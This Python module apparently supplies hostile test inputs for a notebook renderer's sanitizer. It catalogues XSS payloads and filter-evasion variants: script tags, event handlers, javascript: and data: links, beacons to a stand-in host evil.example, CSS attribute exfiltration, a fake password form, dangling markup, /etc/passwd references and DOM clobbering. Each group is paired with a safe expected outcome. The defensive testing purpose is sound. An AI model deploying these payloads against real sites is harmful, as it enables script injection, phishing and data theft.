"""Markup that runs, loads, sends or takes over the page it stands in."""

from __future__ import annotations

from hostile_notebooks.base import EVIL, JS, PWNED, family

NO_SCRIPT = "no script runs"
NO_REQUEST = "nothing is requested from elsewhere"
NO_TAKEOVER = "nothing outside the notebook's own place changes or reacts"

SCRIPTS = {
    "script": f"<script>{PWNED}</script>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "script in a table": f"<table><tr><td><script>{PWNED}</script></td></tr></table>",
    "script in capitals": f"<SCRIPT>{PWNED}</SCRIPT >",
    "script without an end": f"<script>{PWNED}",
    "script in a script": f"<scr<script>ipt>{PWNED}</scr</script>ipt>",
    "script with a NUL": f"<scr\0ipt>{PWNED}</scr\0ipt>",
    "script with a slash": f"<script/x>{PWNED}</script/y>",
    "script module": f"<script type=module>{PWNED}</script>",
    "script import map": f'<script type=importmap>{{"imports":{{"a":"{EVIL}/a.js"}}}}</script>',
    "script as require does": f"<script>require(['x'], function() {{ {PWNED} }})</script>",
    "script in noscript": f"<noscript><script>{PWNED}</script></noscript>",
    "script in a template": f"<template><script>{PWNED}</script></template>",
    "declarative shadow root": f"<div><template shadowrootmode=open><script>{PWNED}</script>",
    "escaped twice": f"&amp;lt;script&amp;gt;{PWNED}&amp;lt;/script&amp;gt;",
    "entities": f"&lt;script&gt;{PWNED}&lt;/script&gt;",
    "end of our own element": f"</pre></code></td></article></main><script>{PWNED}</script>",
    "template language": f"{{{{ '<script>{PWNED}</script>'|safe }}}}{{% include '/etc/passwd' %}}",
}

HANDLERS = {
    "img onerror": f"<img src=x onerror={PWNED}>",
    "img onerror, slashes": f"<img/src=x/onerror={PWNED}>",
    "img onerror, backticks": f"<img src=`x`onerror={PWNED}>",
    "img onerror, line feeds": f"<img\n src=x\n\fonerror\n=\n{PWNED}>",
    "img onerror, no end": f"<img src=x onerror={PWNED} ",
    "img onerror, entity": "<img src=x onerror=&#119;indow.pwned=1>",
    "svg onload": f"<svg onload={PWNED}>",
    "svg onload, slash": f"<svg/onload={PWNED}>",
    "body onload": f"<body onload={PWNED}>",
    "details ontoggle": f"<details open ontoggle={PWNED}>x</details>",
    "input onfocus": f"<input autofocus onfocus={PWNED}>",
    "select onfocus": f"<select autofocus onfocus={PWNED}></select>",
    "video onerror": f"<video><source onerror={PWNED}></video>",
    "audio onerror": f"<audio src=x onerror={PWNED}>",
    "marquee onstart": f"<marquee onstart={PWNED}>x</marquee>",
    "iframe onload": f"<iframe onload={PWNED}></iframe>",
    "object onerror": f"<object data=x onerror={PWNED}>",
    "a onmouseover": f'<a onmouseover="{PWNED}">x</a>',
    "onpointerenter": f"<p onpointerenter={PWNED} style=position:fixed;inset:0>x</p>",
    "onanimationstart": f"<style>@keyframes x{{}}</style><p style=animation-name:x "
    f"onanimationstart={PWNED}>",
    "onscrollend": f"<div onscrollsnapchange={PWNED} oncontentvisibilityautostatechange={PWNED}>",
    "out of a quoted attribute": f"\"' onmouseover='{PWNED}' onfocus=\"{PWNED}\" autofocus tabindex=1",
    "namespaced handler": f"<p xml:onclick={PWNED} on:click={PWNED} @click={PWNED}>x</p>",
}

ADDRESSES = {
    "link": f'<a href="{JS}">x</a>',
    "link, mixed case": f'<a href="jAvAsCrIpT:{PWNED}">x</a>',
    "link, tab and line feed": f'<a href="java\tscr\nipt:{PWNED}">x</a>',
    "link, control characters": f'<a href="\x01\x02 {JS}">x</a>',
    "link, entities": f'<a href="&#106;avascript&colon;{PWNED}">x</a>',
    "link, no semicolons": f'<a href="&#0000106&#0000097vascript:{PWNED}">x</a>',
    "link, vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link, data document": f'<a href="data:text/html,<script>{PWNED}</script>">x</a>',
    "link, data svg": f'<a href="data:image/svg+xml,<svg onload={PWNED}>">x</a>',
    "link, file": '<a href="file:///etc/passwd">x</a>',
    "link, blob": '<a href="blob:https://evil.example/1">x</a>',
    "link, other schemes": '<a href="ms-msdt:/x">x</a><a href="view-source:x">y</a>',
    "link, target opener": f'<a href="{EVIL}" target=_top rel=opener>x</a>',
    "link, ping": f'<a href="{EVIL}" ping="{EVIL}/ping" download>x</a>',
    "area": f'<map name=m><area href="{JS}"></map><img usemap=#m>',
    "iframe src": f'<iframe src="{JS}"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": f'<object data="{JS}"></object>',
    "embed": f'<embed src="{JS}">',
    "applet": f'<applet code="{EVIL}/x.class"></applet>',
    "image source": f'<img src="{JS}"><img src="data:text/html,<script>{PWNED}</script>">',
    "image data svg": f'<img src="data:image/svg+xml,<svg onload={PWNED}>">',
    "background": f'<table background="{JS}"><tr background={EVIL}/b>',
    "citation": f'<blockquote cite="{JS}">x</blockquote><q cite="{JS}">x</q>',
    "xlink": f'<svg><a xlink:href="{JS}"><text y=9>x</text></a></svg>',
    "math link": f'<math href="{JS}">x</math><math><maction xlink:href="{JS}">x</maction></math>',
}

BEACONS = {
    "img": f'<img src="{EVIL}/t.png">',
    "img without a scheme": '<img src="//evil.example/t.png"><img src="/\\evil.example/t.png">',
    "img, odd slashes": '<img src="https:evil.example/t"><img src="\\\\evil.example\\t">',
    "srcset": f'<img srcset="{EVIL}/t.png 2x"><picture><source srcset="{EVIL}/t.png"></picture>',
    "poster": f'<video poster="{EVIL}/p.png"></video>',
    "media": f'<video src="{EVIL}/v"><track src="{EVIL}/t"></video><audio src="{EVIL}/a">',
    "style attribute": f'<p style="background:url({EVIL}/t.png)">x</p>',
    "style sheet": f"<style>@import '{EVIL}/s.css';</style>",
    "link": f'<link rel=stylesheet href="{EVIL}/s.css"><link rel=prefetch href="{EVIL}/p">',
    "early connections": f'<link rel=preconnect href="{EVIL}"><link rel=dns-prefetch href="{EVIL}">',
    "icon and manifest": f'<link rel=icon href="{EVIL}/i"><link rel=manifest href="{EVIL}/m">',
    "input image": f'<input type=image src="{EVIL}/t.png"><body background="{EVIL}/b.png">',
    "markdown image": f"![x]({EVIL}/t.png) ![y][r]\n\n[r]: {EVIL}/r.png",
    "frame": f'<iframe src="{EVIL}"></iframe><frameset><frame src="{EVIL}"></frameset>',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "svg image": f'<svg><image href="{EVIL}/i.png"/><feImage href="{EVIL}/f.png"/></svg>',
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["'
    + EVIL
    + '"]}]}</script>',
    "dangling markup": f"<img src='{EVIL}/?",
}

TAKEOVERS = {
    "form": f'<form action="{EVIL}/login"><input name=password type=password><button>Sign in</button></form>',
    "form of our own": '<form action="/-/profile" method=post><button>x</button></form>',
    "form script": f'<form action="{JS}"><input type=submit>',
    "formaction": f'<button formaction="{JS}">x</button><input type=submit formaction="{JS}">',
    "form attribute": "<button form=search formaction=https://evil.example>x</button>",
    "dialog": "<dialog open>Your session has ended</dialog>",
    "base": f'<base href="{EVIL}/">',
    "base target": "<base target=_parent>",
    "meta refresh": f'<meta http-equiv=refresh content="0;url={EVIL}">',
    "meta refresh script": f'<meta http-equiv=refresh content="0;url={JS}">',
    "meta policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "meta charset": "<meta charset=utf-7>+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "style": "<style>*{display:none!important}</style>",
    "style exfiltration": f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style>",
    "style in svg": f"<svg><style>@import url({EVIL}/s.css);*{{display:none}}</style></svg>",
    "overlay": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in</div>',
    "overlay by class": '<div class="dialog site-header nb-menu modal">Sign in</div>',
    "html attributes": "<html class=x style=display:none><body class=y hidden>x</body></html>",
    "title": "<title>Sign in</title><h1>Sign in</h1>",
    "comment": "<!-- <p>",
    "unclosed": "<div><table><tr><td><b><i><a href=x>",
    "plaintext": "<plaintext>",
    "xmp and listing": "<xmp><listing><noembed><noframes>",
    "textarea": "<textarea><select><option>",
    "inert": "<div inert hidden popover=manual aria-hidden=true contenteditable>x</div>",
}

BEHAVIOURS = {
    "rails": '<a data-method=delete data-remote=true data-confirm=x href="/-/x">x</a>',
    "htmx": f'<div hx-get="{EVIL}" hx-trigger=load hx-on:load="{PWNED}" hx-swap=outerHTML>x</div>',
    "htmx data": f'<div data-hx-get="{EVIL}" data-hx-trigger=load>x</div>',
    "alpine": f'<div x-data x-init="{PWNED}" x-html="1" :onclick="{PWNED}">x</div>',
    "vue": f"<div v-html=x v-on:load={PWNED}>{{{{constructor.constructor('{PWNED}')()}}}}</div>",
    "angular": f"<div ng-app ng-init=\"constructor.constructor('{PWNED}')()\">x</div>",
    "turbo": f'<turbo-frame src="{EVIL}" id=main></turbo-frame><turbo-stream action=replace>x',
    "stimulus": '<div data-controller=search data-action="load->search#go">x</div>',
    "bootstrap": f'<a data-bs-toggle=tooltip data-bs-html=true title="<img src=x onerror={PWNED}>">x</a>',
    "our own": '<div data-comment data-url="/x" data-suggest=1 class=comment-button>x</div>',
    "notebook command linker": '<button data-commandlinker-command="terminal:create-new" '
    'data-commandlinker-args="{}">x</button>',
    "custom element": "<nb-figure></nb-figure><p is=nb-figure slot=x part=y>x</p>",
    "invoker": "<button commandfor=main command=--x popovertarget=main>x</button>",
    "keys": "<a href=# accesskey=s autofocus tabindex=1 draggable=true>x</a>",
    "microdata": "<div itemscope itemid=x itemtype=y property=z vocab=w>x</div>",
    "click jacking label": "<label for=id_password>x</label><output for=q>x</output>",
}

CLOBBERS = {
    "id of an element of ours": "<div id=main></div><a id=comment-form href=x></a>",
    "globals": "<a id=pwned href=x></a><form id=defaultView><input id=fetch></form>",
    "document members": "<img name=getElementById><img name=cookie><form name=body>x</form>",
    "form members": "<form id=f><input name=action><input name=submit></form>",
    "collection": "<a id=config></a><a id=config name=url href='https://evil.example'></a>",
    "frame name": "<iframe name=opener></iframe><object name=self></object>",
    "markdown heading id": "# main\n\n## body {#main}\n\n# pwned",
    "footnote id": '[^main]\n\n[^main]: x\n\n[^x" onclick=y]: z',
    "aria": "<div role=alert aria-live=assertive aria-labelledby=main>x</div>",
}

ENTRIES = [
    *family("script", NO_SCRIPT, SCRIPTS),
    *family("handler", NO_SCRIPT, HANDLERS),
    *family("address", NO_SCRIPT, ADDRESSES),
    *family("beacon", NO_REQUEST, BEACONS),
    *family("takeover", NO_TAKEOVER, TAKEOVERS),
    *family("behaviour", NO_TAKEOVER, BEHAVIOURS),
    *family("clobbering", NO_TAKEOVER, CLOBBERS),
]
